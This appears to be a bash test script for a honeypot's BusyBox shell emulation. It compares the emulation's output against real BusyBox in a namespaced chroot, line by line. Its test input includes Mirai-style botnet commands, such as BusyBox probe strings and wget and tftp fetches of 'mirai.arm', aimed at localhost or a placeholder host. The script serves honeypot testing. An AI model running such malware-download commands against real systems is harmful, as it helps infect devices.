#!/usr/bin/env bash
# Checks that mamori-trap's ash emulation prints what a real BusyBox prints:
# the same command lines run in a chroot made of a persona's root/ with
# busybox-static and its applet links (a login shell, argv0 -sh, in its own
# network and UTS namespaces) and in `mamori-trap --shell --no-prompt` with
# the same seed, and the outputs must match line by line after the few
# normalisations listed below; a difference fails with a diff.
set -euo pipefail
: "${MAMORI_BIN:?}" "${MAMORI_SRC:?}"
persona=${TRAP_DIFF_PERSONA:-router-mips}
personas=${TRAP_DIFF_PERSONAS:-$MAMORI_SRC/data/trap/personas}
seed=4242
py=/usr/bin/python3
[ -x /bin/busybox ] || { echo "FAIL: busybox-static is not installed" >&2; exit 1; }
/bin/busybox --help 2>&1 | grep -q 'v1\.35' || { echo "FAIL: /bin/busybox is not 1.35" >&2; exit 1; }
[ -x "$MAMORI_BIN/mamori-trap" ] || { echo "FAIL: no $MAMORI_BIN/mamori-trap" >&2; exit 1; }

tmp=$(mktemp -d /tmp/mamori-trap-diff.XXXXXX)
cleanup() { [ -n "${TRAP_DIFF_KEEP:-}" ] || rm -rf "$tmp"; }
trap cleanup EXIT
root=$tmp/root

emul() { "$MAMORI_BIN/mamori-trap" --shell --personas "$personas" --persona "$persona" \
	--seed "$seed" --no-prompt; }

# ---- the chroot: the persona's tree, its modes, owners and times, busybox ----
cp -a "$personas/$persona/root" "$root"
"$py" - "$personas/$persona" "$root" >"$tmp/version" <<'EOF'
import configparser, os, sys
pdir, root = sys.argv[1], sys.argv[2]
c = configparser.ConfigParser(interpolation=None)
c.read(os.path.join(pdir, 'persona.conf'))
val = lambda k: c['system'][k].strip().strip('"')
dirs = dict(p.split(':', 1) for p in val('applet_dirs').split())
mtime = None
for line in open(os.path.join(pdir, 'fs.meta')):
    f = line.split()
    if len(f) == 2 and f[0] == '@mtime':
        mtime = int(f[1])
    elif len(f) == 4 and f[0].startswith('/'):
        path, mode = root + f[0], int(f[1], 8)
        if mode & 0o170000 == 0o040000:
            os.makedirs(path, exist_ok=True)
        if os.path.lexists(path) and not os.path.islink(path):
            os.chown(path, int(f[2]), int(f[3]))
            os.chmod(path, mode & 0o7777)
os.makedirs(root + '/bin', exist_ok=True)
import shutil
shutil.copy2('/bin/busybox', root + '/bin/busybox')
for a in val('applets').split():
    d = dirs.get(a, 'bin')
    os.makedirs(os.path.join(root, d), exist_ok=True)
    link = os.path.join(root, d, a)
    if not os.path.lexists(link):
        os.symlink('/bin/busybox', link)
# The base's entries carry the persona's build time (fs.meta's @mtime).
if mtime is not None:
    for dp, dn, fn in os.walk(root):
        for n in dn + fn + ['.']:
            os.utime(os.path.join(dp, n), (mtime, mtime), follow_symlinks=False)
print(val('busybox_version'))
EOF
version=$(cat "$tmp/version")
# A login shell reads /etc/profile, which sets the device's PS1 (prompts
# would be printed) and may run commands; the emulation's shell starts
# from login's environment alone, so the chroot's copy is emptied.
[ ! -f "$root/etc/profile" ] || : >"$root/etc/profile"
# Files the persona fills from the seed ({{mac}}, {{serial}}, {{bogomips}},
# the host name): the chroot gets the instance's copy, read from the
# emulation, so that both shells see the same device.
grep -rl '{{' "$root" | while read -r f; do
	rel=${f#"$root"}
	printf 'cat %s\n' "$rel" | emul >"$f"
done
host=$(printf 'uname -n\n' | emul || true)
[ -n "$host" ] || { echo "FAIL: the emulation gives no host name" >&2; exit 1; }

# ---- the command lines ----
# Not compared, and why: ps (the host's processes), uname -a/-r/-m (the
# host's kernel and CPU), date and uptime (time moves), ls -l of folders
# (sizes and block counts are the host file system's), cat /bin/echo
# (busybox-static is not the persona's binary), curl (not a BusyBox applet),
# https URLs (BusyBox starts its ssl_client helper), sh alone (the nested
# shell is interactive only on a terminal), kill of a pid (the host's pids),
# writes outside /tmp (the personas' root file systems are read-only, the
# chroot's copy is not). ls of several names goes through cat: on the
# device's terminal ls prints columns, in the chroot one name a line.
cat >"$tmp/lines" <<'EOF'
echo hello world
echo 'single  quoted'   "double  $HOME"   back\ slash
echo -n no newline; echo
echo -e 'tab\there\nnew line'
echo -ne '\x41\x42\x43\n'
echo -ne '\0101\0102\n'
echo -e 'a\101b' 'stop\cnever'; echo
echo -x -n literal
echo -nx literal
printf '%s-%d-%x-%o-%c\n' ab 42 255 8 zed
printf '%5s|%-4d|%03x|\n' ab 7 10
printf '%s\n' one two three
printf '%b\n' 'esc\tape'
printf '%d\n' notanumber
printf
A=1; B="$A and 2"; echo "$B" $?
export E=exported; echo $E
true; echo $?
false; echo $?
! false; echo $?
true && echo and-yes || echo and-no
false && echo and-yes || echo or-yes
false; true; echo $?
echo $(echo substituted) `echo backticks`
echo one; echo two; echo three
foo
nonexistent-command arg
/bin/busybox MIRAI
/bin/busybox ECCHI
busybox FOO
busybox echo via-busybox
/bin/busybox echo via-path
./nothere
cat /etc/passwd
cat /proc/cpuinfo
cat /proc/mounts
cat /etc/nofile
cat /etc
cat /etc/passwd /nofile /etc/hostname
cd /tmp; echo x > f1; cat f1; echo y >> f1; cat f1
cd /tmp; >.nippon; ls -a | grep nippon; rm .nippon; ls -a | grep -c nippon
cd /tmp; cp /etc/passwd p2; cat p2 | wc -l
cd /tmp; cp /nofile x
cd /tmp; cp /etc x/y/z
cp /etc /tmp/etc2
cd /tmp; mkdir d1; mkdir d1; mkdir -p d2/a/b; ls d2; ls d2/a
mkdir /nonexist/a/b
cd /tmp; echo data > mvsrc; mv mvsrc mvdst; cat mvdst; mv nosuch x
rm /nofile
rm -f /nofile; echo $?
cd /tmp; mkdir rmd; rm rmd
cd /tmp; mkdir rd; echo a > rd/f; rm -r rd; ls rd
cd /tmp; echo a > c1; chmod 777 c1; ls -l c1 | grep -c rwxrwxrwx
chmod 777 /nofile
chmod zz /etc/passwd
chmod
ls /nonexist
ls /etc/passwd
ls /etc | cat
ls -a /etc | cat
ls -l /etc/passwd
ls /etc/passwd /nonexist /etc/hostname | cat
cd /etc; pwd; cd ..; pwd; cd; pwd
cd /nonexist
cd /etc/passwd
head -n 2 /etc/passwd
tail -n 1 /etc/passwd
head -1 /etc/passwd
wc /etc/passwd
wc -l < /etc/passwd
cat /etc/passwd | wc -l
grep root /etc/passwd
grep -c root /etc/passwd
grep -v root /etc/passwd | wc -l
grep nomatch /etc/passwd; echo $?
grep root /nofile; echo $?
cat /etc/passwd | grep -n root
dd if=/etc/passwd of=/tmp/dd1 bs=1 count=5; cat /tmp/dd1; echo
dd if=/nofile of=/tmp/dd2
echo redirected > /tmp/r1; cat /tmp/r1
cat /nofile 2>/dev/null; echo $?
cat /nofile 2>&1 | wc -l
cat /nofile > /dev/null 2>&1; echo $?
echo x > /nonexist/file
cat < /nofile
id
whoami
hostname
kill
kill -9 notapid
sleep
sleep 0; echo slept
sh -c 'echo in-sh; exit 3'; echo $?
sh /nofile
echo 'echo from-script' > /tmp/s.sh; sh /tmp/s.sh
echo 'echo exec-script' > /tmp/x.sh; /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh
printf '#!/bin/sh\necho shebang-script\n' > /tmp/y.sh; chmod 755 /tmp/y.sh; /tmp/y.sh
wget
tftp
wget http://127.0.0.1:1/bins/mirai.arm; echo $?
wget -O /tmp/w http://127.0.0.1:1/a.sh
wget -q http://127.0.0.1:1/quiet
wget http://no.such.host.example/x
tftp -g -r mirai.arm 127.0.0.1 1; echo $?
tftp -g -l dvrHelper -r bins/mirai.arm no.such.host.example
/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI
echo end
EOF
# busybox-static runs every applet it has without a link ("standalone
# shell"), where the device's shell says "not found" for an applet its
# BusyBox lacks: lines that name an applet the persona does not have are
# left out (and counted), since the two shells rightly differ there.
"$py" - "$personas/$persona/persona.conf" "$tmp/lines" <<'EOF'
import configparser, re, subprocess, sys
c = configparser.ConfigParser(interpolation=None)
c.read(sys.argv[1])
have = set(c['system']['applets'].strip().strip('"').split())
real = set(subprocess.run(['/bin/busybox', '--list'], capture_output=True,
                          text=True).stdout.split())
builtins = {'echo', 'printf', 'true', 'false', 'kill', 'cd', 'pwd', 'export', 'exit', 'sh',
            'busybox', 'test', '['}
keep, left = [], 0
for line in open(sys.argv[2]):
    words = set(re.findall(r"[A-Za-z0-9_.\-\[]+", line))
    if any(w in real and w not in have and w not in builtins for w in words):
        left += 1
        continue
    keep.append(line)
open(sys.argv[2], 'w').write(''.join(keep))
print('%d lines left out: applets %s lacks' % (left, c['persona']['name']), file=sys.stderr)
EOF
[ "$(grep -c . "$tmp/lines")" -ge 60 ] || { echo "FAIL: fewer than 60 lines" >&2; exit 1; }

# The real BusyBox: a login shell (argv0 -sh) made interactive with -i
# (so that errors carry no "line N:" as on a terminal), with empty prompts,
# started in the home folder as login does.
home=$(printf 'echo $HOME\n' | emul)
cat >"$tmp/real.py" <<'EOF'
import os, subprocess, sys
root, host, home = sys.argv[1], sys.argv[2], sys.argv[3]
inner = r"""
import os, socket, subprocess, sys
subprocess.run(['ip', 'link', 'set', 'lo', 'up'], check=True)
socket.sethostname(sys.argv[2])
os.chroot(sys.argv[1])
os.chdir(sys.argv[3] if os.path.isdir(sys.argv[3]) else '/')
env = {'HOME': sys.argv[3], 'PATH': '/sbin:/usr/sbin:/bin:/usr/bin', 'USER': 'root',
       'LOGNAME': 'root', 'SHELL': '/bin/sh', 'PS1': '', 'PS2': ''}
os.dup2(1, 2)
os.execve('/bin/busybox', ['-sh', '-i'], env)
"""
cmd = ['unshare', '-n', '-u', '--', sys.executable, '-c', inner, root, host, home]
sys.exit(subprocess.run(cmd, stdin=sys.stdin).returncode)
EOF
# Through a pipe: ash and its children share a file offset they may move.
cat "$tmp/lines" | "$py" "$tmp/real.py" "$root" "$host" "$home" >"$tmp/real.raw" 2>&1 || true
emul <"$tmp/lines" >"$tmp/emul.raw" 2>&1 || true

# ---- normalisations, each with its reason ----
# 1. The real shell's greeting (interactive ash with no terminal: "can't
#    access tty", then the banner) comes before the first line: dropped.
# 2. Interactive ash prints a newline when its input ends: dropped.
# 3. BusyBox's version: the host's 1.35 prints its own; the emulation the
#    persona's. The host's is replaced by the persona's.
"$py" - "$tmp/real.raw" "$tmp/real" "$version" <<'EOF'
import re, sys
raw, out, version = sys.argv[1], sys.argv[2], sys.argv[3]
t = open(raw, 'rb').read().decode('latin-1')
mark = "Enter 'help' for a list of built-in commands.\n\n"
if mark in t:
    t = t.split(mark, 1)[1]
if t.endswith('\n\n'):
    t = t[:-1]
t = re.sub(r'BusyBox v1\.35\.0 \([^)]*\)', 'BusyBox ' + version, t)
open(out, 'wb').write(t.encode('latin-1'))
EOF
cp "$tmp/emul.raw" "$tmp/emul"
if ! diff -u "$tmp/real" "$tmp/emul" >"$tmp/diff"; then
	echo "FAIL: the emulation differs from BusyBox 1.35 (- real, + emulation):" >&2
	cat "$tmp/diff" >&2
	exit 1
fi
[ "$(grep -c . "$tmp/real")" -ge 60 ] || { echo "FAIL: too little output to compare" >&2; exit 1; }
echo "PASS: $(wc -l <"$tmp/lines") command lines print the same in BusyBox and the emulation"
